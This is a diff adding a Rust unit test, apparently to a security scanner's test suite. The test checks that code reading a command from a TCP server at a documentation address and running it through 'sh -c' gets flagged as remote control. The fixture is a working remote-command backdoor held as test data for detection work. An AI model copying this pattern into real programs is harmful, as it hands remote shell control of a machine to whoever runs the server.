@@ -1184,6 +1184,27 @@ mod tests {
     }
 
     #[test]
+    fn a_buffer_filled_by_a_chain_over_several_lines_carries_the_connection() {
+        let found = findings(
+            r#"
+            use std::io::Read;
+            const SERVER: &str = "192.0.2.7:9000";
+            pub fn poll() {
+                let mut command = String::new();
+                let _ = std::net::TcpStream::connect(SERVER)
+                    .unwrap()
+                    .read_to_string(&mut command);
+                let _ = std::process::Command::new("sh").arg("-c").arg(&command).status();
+            }"#,
+        );
+        assert_eq!(
+            severity(&found, super::super::rules::REMOTE_CONTROL),
+            Some(Verdict::Hold),
+            "{found:?}"
+        );
+    }
+
+    #[test]
     fn a_constructor_of_one_type_is_not_every_new() {
         // `Command::new` is not `Fetcher::new`, whose value came from the network.
         let source = r#"
